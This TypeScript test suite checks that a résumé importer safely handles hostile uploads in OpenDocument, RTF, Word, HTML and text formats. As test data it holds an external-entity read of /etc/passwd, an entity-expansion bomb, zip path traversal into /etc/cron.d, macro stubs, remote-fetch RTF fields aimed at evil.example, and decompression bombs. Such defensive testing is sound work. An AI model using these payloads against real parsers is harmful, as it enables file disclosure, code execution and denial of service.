import { strToU8, zipSync, type ZipOptions, type Zippable } from 'fflate';
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { MAX_LINEAR_GROWTH, measureGrowth } from '../../test/support/growth.ts';
import { isErrorCode } from '../../shared/errors/errors.ts';
import { UPLOAD_FORMATS } from '../../shared/upload/uploadFormats.ts';
import { checkFileHeader } from './file/fileHeader.ts';
import { readHtmlDocument } from './html/htmlDocument.ts';
import { readRtfDocument } from './rtf/rtfDocument.ts';
import { decodeText } from './file/decodeText.ts';
import { readTextDocument } from './text/textDocument.ts';
import { importText } from './textImport.ts';
import { p, part, run, word } from './word/wordXml.fixture.ts';

/** Hostile files in OpenDocument, RTF and text; for Word files see word/wordFiles.test.ts. */
const NAMESPACE = 'urn:oasis:names:tc:opendocument:xmlns';
const RESUME = [
  'Maya Cohen',
  'maya@korot.example',
  'Experience',
  'Cook, Korot, 2019 - 2023',
  'Education',
  'B.A., 2018',
];
const content = (body: string, doctype = '') =>
  `${doctype}<office:document-content xmlns:office="${NAMESPACE}:office:1.0" xmlns:text="${NAMESPACE}:text:1.0" ` +
  `xmlns:script="${NAMESPACE}:script:1.0"><office:body><office:text>${body}</office:text></office:body>` +
  '</office:document-content>';
const body = RESUME.map((line) => `<text:p>${line}</text:p>`).join('');
const odt = (parts: Zippable = {}, xml = content(body)) =>
  zipSync({ mimetype: strToU8(UPLOAD_FORMATS.odt.mediaTypes[0]), 'content.xml': strToU8(xml), ...parts });
const rtf = (text: string) => Buffer.from(String.raw`{\rtf1\ansi ${text}}`, 'latin1');
const rtfResume = RESUME.join(String.raw`\par `);

const manifest = (inside: string) =>
  strToU8(
    `<manifest:manifest xmlns:manifest="${NAMESPACE}:manifest:1.0"><manifest:file-entry manifest:full-path=` +
      `"content.xml">${inside}</manifest:file-entry></manifest:manifest>`,
  );

const outcome = async (bytes: Uint8Array) => {
  const read = await importText(bytes);
  return 'error' in read ? read.error : read.resumeData.personalInfo.email;
};

describe('an OpenDocument file of a stranger', () => {
  it('is read where nothing is wrong with it', async () => {
    expect(await outcome(odt())).toBe('maya@korot.example');
  });

  it('[UP-03] that is encrypted is protected by a password, in the older way and in the newer', async () => {
    const noise = Uint8Array.from({ length: 500 }, (_, at) => (at * 7 + 13) % 256);
    const encrypted = manifest('<manifest:encryption-data manifest:checksum="x"/>');
    expect(await outcome(odt({ 'META-INF/manifest.xml': encrypted, 'content.xml': noise }))).toBe('password_protected');
    const mimetype = strToU8(UPLOAD_FORMATS.odt.mediaTypes[0]);
    const wrapped = zipSync({ mimetype, 'encrypted-package': noise, 'META-INF/manifest.xml': encrypted }, { level: 0 });
    expect(await outcome(wrapped)).toBe('password_protected');
    expect(await outcome(odt({ 'META-INF/manifest.xml': manifest('') }))).toBe('maya@korot.example');
  });

  it('is refused where it unpacks to too much or has too many entries', async () => {
    // Stored uncompressed, because a compressor would be prepared for every part, even an empty one.
    const none: [Uint8Array, ZipOptions] = [new Uint8Array(), { level: 0 }];
    const many = Object.fromEntries(Array.from({ length: 10_000 }, (_, at) => [`Pictures/${at}`, none]));
    expect(await outcome(odt(many))).toBe('pdf_too_large');
    expect(await outcome(odt({ 'content.xml': [new Uint8Array(9_000_000), { level: 1 }] }))).toBe('pdf_too_large');
    const lines = '<text:p>Skills</text:p>'.repeat(4_000);
    expect(await outcome(odt({}, content(lines)))).toBe('too_many_pages');
  });

  it.each([
    ['entities', content(body, '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>')],
    ['a file outside', content('<text:p>&a;</text:p>', '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>')],
    ['elements within each other', content('<text:p>'.repeat(100_000))],
  ])('is damaged by %s', async (_, xml) => {
    expect(await outcome(odt({}, xml))).toBe('damaged_pdf');
  });

  it('is only its text: paths are names, macros and scripts are not opened', async () => {
    const macros = {
      '../../../etc/cron.d/x': strToU8('* * * * * root x'),
      '/etc/passwd': strToU8('x'),
      'Basic/Standard/Module1.xml': strToU8('<script:module xmlns:script="x">Shell("x")</script:module>'),
      'Scripts/python/x.py': strToU8('import os'),
    };
    const xml = content(`<office:scripts><script:event-listener/></office:scripts>${body}`);
    expect(await outcome(odt(macros, xml))).toBe('maya@korot.example');
  });
});

describe('a Word file with macros', () => {
  it('is only its text, also as the format that names them', async () => {
    const bytes = word(RESUME.map((line) => p(run(line))).join(''), { 'word/vbaProject.bin': strToU8('AutoOpen') });
    expect(checkFileHeader(bytes, 'application/vnd.ms-word.document.macroEnabled.12')).toBeUndefined();
    expect(await outcome(bytes)).toBe('maya@korot.example');
  });
});

describe('an RTF file of a stranger', () => {
  it('is read where it only breaks off, or goes on behind its end', async () => {
    const whole = rtf(rtfResume);
    expect(await outcome(whole)).toBe('maya@korot.example');
    expect(await outcome(whole.subarray(0, -1))).toBe('maya@korot.example');
    expect(await outcome(Buffer.concat([whole, Buffer.from('}}}}{{{{')]))).toBe('maya@korot.example');
  });

  it.each([
    ['groups without an end', rtf('{'.repeat(1_000_000)), 'damaged_pdf'],
    ['ends without groups', rtf('}'.repeat(1_000_000)), 'nothing_found'],
    ['too much text', rtf('a '.repeat(600_000)), 'pdf_too_large'],
    ['too many paragraphs', rtf(String.raw`\par`.repeat(30_000)), 'pdf_too_large'],
    ['too many cells', rtf(String.raw`\intbl\cell`.repeat(30_000)), 'pdf_too_large'],
    ['tables within each other', rtf(String.raw`\intbl\itap999999999 x\nestcell`.repeat(3_000)), 'nothing_found'],
    ['boxes within each other', rtf(String.raw`{\shptxt x`.repeat(400)), 'nothing_found'],
    ['a picture that is longer than the file', rtf(String.raw`\bin999999999 x`), 'nothing_found'],
    ['a number without an end', rtf(`\\b${'1'.repeat(100_000)}`), 'nothing_found'],
    ['a word without an end', rtf(`\\${'b'.repeat(1_000_000)}`), 'too_many_pages'],
  ] as const)('with %s is answered', async (_, bytes, error) => {
    expect(await outcome(bytes)).toBe(error);
  });

  it('says nothing of objects, and asks for no address', async () => {
    const object = String.raw`{\object\objautlink\objupdate{\*\objclass Equation.3}{\*\objdata d0cf}{\result evil}}`;
    const field = String.raw`{\field{\*\fldinst INCLUDETEXT "http://evil.example/x"}{\fldrslt }}`;
    const template = String.raw`{\*\template http://evil.example/t.dotm}`;
    const found = await importText(rtf(template + object + field + rtfResume));
    expect(JSON.stringify(found)).not.toContain('evil');
    expect(found).not.toHaveProperty('error');
  });
});

/** Returns a text repeated so many times. */
const times = (count: number, text: string) => text.repeat(count);
const html = (inside: string) =>
  strToU8(`<html><body><h1>Maya Cohen</h1><p>maya@korot.example</p>${inside}</body></html>`);
const numbered = (item: string, level: number) =>
  p(run(item), `<w:numPr><w:ilvl w:val="${level}"/><w:numId w:val="1"/></w:numPr>`);

describe('a file that holds far more than a résumé', () => {
  const levels = Array.from({ length: 40 }, (_, at) => at);

  it.each([
    ['items of a list', html(`<ol>${times(550_000, '<li>x')}</ol>`), 'pdf_too_large'],
    ['rows of a table', html(`<table>${times(300_000, '<tr><td>x')}</table>`), 'pdf_too_large'],
    ['links', html(times(20_000, `<a href="https://x.example/${times(200, 'x')}">x</a>`)), 'maya@korot.example'],
    ['tags within each other', html(times(450_000, '<div>') + 'x'), 'pdf_too_large'],
    ['one word', html(times(5_000_000, 'x')), 'too_many_pages'],
  ])('of five million letters of HTML is answered: %s', async (_, bytes, said) => {
    expect(await outcome(bytes)).toBe(said);
  });

  it('has all items of a list of forty levels, in every format', async () => {
    const items = levels.map((level) => `step ${String.fromCharCode(97 + (level % 26))}${level}`);
    const nested = (open: string, close: string) =>
      items.map((item) => open.replace('@', item)).join('') + times(items.length, close);
    const files = [
      html(`<h2>Experience</h2><p>Cook, Korot, 2019 - 2023</p>${nested('<ul><li>@', '</li></ul>')}`),
      odt({}, content(body + nested('<text:list><text:list-item><text:p>@</text:p>', '</text:list-item></text:list>'))),
      word(RESUME.map((line) => p(run(line))).join('') + items.map(numbered).join('')),
      rtf(
        rtfResume + items.map((item, level) => String.raw`\par{\listtext\'b7\tab}\ilvl${level}\ls1 ${item}`).join(''),
      ),
      strToU8(`${RESUME.join('\n')}\n${items.map((item, level) => `${times(level, '  ')}- ${item}`).join('\n')}`),
    ];
    for (const bytes of files) {
      // oxlint-disable-next-line no-await-in-loop -- one reader, which knows one document at a time
      const found = await importText(bytes);
      const said = JSON.stringify(found);
      expect('error' in found ? found.error : items.filter((item) => !said.includes(item))).toEqual([]);
    }
  });

  it('has notes that nothing leads to, and leads to notes that are not there', async () => {
    const notes = part('footnotes', `<w:footnote w:id="7">${p(run('A note of its own'))}</w:footnote>`);
    const lost = '<w:r><w:footnoteReference w:id="99"/></w:r>';
    const found = await importText(
      word(RESUME.map((line) => p(run(line) + lost)).join(''), { 'word/footnotes.xml': notes }),
    );
    // Word does not show notes without a reference.
    expect(found).toMatchObject({ resumeData: { personalInfo: { email: 'maya@korot.example' } }, unplaced: [] });
    expect(JSON.stringify(found)).not.toContain('of its own');
  });
});

describe('any bytes', () => {
  const words = fc.constantFrom(
    '{',
    '}',
    '\\',
    "\\'",
    '\\u',
    '\\par',
    '\\cell',
    '\\row',
    '\\intbl',
    '\\nestrow',
    '\\*',
    '\\field',
    '\\header',
    '\\fonttbl',
    '\\f1',
    '\\fcharset128',
    '\\listtext',
    '\\shptxt',
    '\\uc',
    '\\bin',
    '-',
    '9',
    ' ',
    'e9',
    'ש',
    '**',
    '](',
    '|',
    '\n',
    '#',
    '- ',
    '\t',
    '===',
  );
  const bytes = fc.oneof(
    fc.uint8Array({ maxLength: 400 }),
    fc.array(words, { maxLength: 120 }).map((parts) => Buffer.from(parts.join(''))),
  );

  it('are a résumé or an error of the catalogue, whatever they are called', async () => {
    await fc.assert(
      fc.asyncProperty(bytes, fc.constantFrom('', '{\\rtf1', 'PK\u0003\u0004word/document.xml'), async (any, head) => {
        const read = await importText(Buffer.concat([Buffer.from(head, 'latin1'), any]));
        expect('error' in read ? isErrorCode(read.error) : read.resumeData).toBeTruthy();
      }),
      { numRuns: 300 },
    );
  });

  it('are read as RTF and as text without a fault that is not foreseen', () => {
    fc.assert(
      fc.property(bytes, (any) => {
        readRtfDocument(Buffer.concat([Buffer.from('{\\rtf1'), any]));
        readTextDocument(decodeText(any) ?? '');
      }),
      { numRuns: 500 },
    );
  });
});

describe('reading takes as long as a file is long', { tags: 'exhaustive' }, () => {
  it.each([
    ['groups of RTF', (size: number) => readRtfDocument(rtf('{}'.repeat(size)))],
    ['words of RTF', (size: number) => readRtfDocument(rtf('\\b\\b0 '.repeat(size)))],
    ['unknown groups of RTF', (size: number) => readRtfDocument(rtf('{\\*\\x a}'.repeat(size)))],
    ['fonts of RTF', (size: number) => readRtfDocument(rtf('\\f1 a\\f2 b'.repeat(size)))],
    ['marks of Markdown', (size: number) => readTextDocument('**a _b [c](d '.repeat(size))],
    ['items of HTML', (size: number) => readHtmlDocument(`<ol>${'<li>x'.repeat(size)}`)],
    ['tables of HTML', (size: number) => readHtmlDocument('<table><tr><td>x'.repeat(size))],
    ['links of HTML', (size: number) => readHtmlDocument('<a href="https://x.example">x</a>'.repeat(size))],
    ['heads of messages', (size: number) => readTextDocument('[12:30, 01/02/2026] a: *b* ~c\n'.repeat(size))],
    ['letters set apart', (size: number) => readTextDocument(`${'a '.repeat(size)}  ${'b - '.repeat(size)}`)],
    ['spaces', (size: number) => readTextDocument(`# a${' '.repeat(size)}b`)],
    ['signs', (size: number) => readTextDocument('- * | # > ` ='.repeat(size))],
    ['bars', (size: number) => readTextDocument(`|a|\n|--|\n${'|'.repeat(size)}`)],
  ])('%s', (_, work) => {
    expect(measureGrowth(work)).toBeLessThan(MAX_LINEAR_GROWTH);
  });
});
